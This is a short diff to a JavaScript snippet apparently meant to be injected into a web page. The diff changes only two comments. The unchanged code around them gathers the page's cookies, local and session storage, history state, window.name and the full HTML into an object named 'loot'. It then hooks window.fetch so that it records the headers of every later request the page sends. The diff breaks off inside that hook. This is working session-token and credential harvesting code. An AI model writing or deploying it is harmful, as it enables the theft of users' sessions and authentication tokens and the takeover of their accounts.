@@ -1,11 +1,11 @@
-// Looks for tokens and cookies wherever a script of the page can look.
+// Searches everything that a script of the page can read for tokens and cookies.
 (async () => {
   const loot = (window.loot = { sent: [], answers: [] });
   loot.cookies = document.cookie;
   loot.storage = JSON.stringify([{ ...localStorage }, { ...sessionStorage }, history.state, window.name]);
   loot.page = document.documentElement.outerHTML;
   const own = window.fetch;
-  // Whatever the page's own scripts send from now on passes by here.
+  // Intercepts the requests of the page's own scripts from now on.
   window.fetch = (...call) => {
     const request = new Request(...call);
     loot.sent.push([...request.headers].join("\n"));
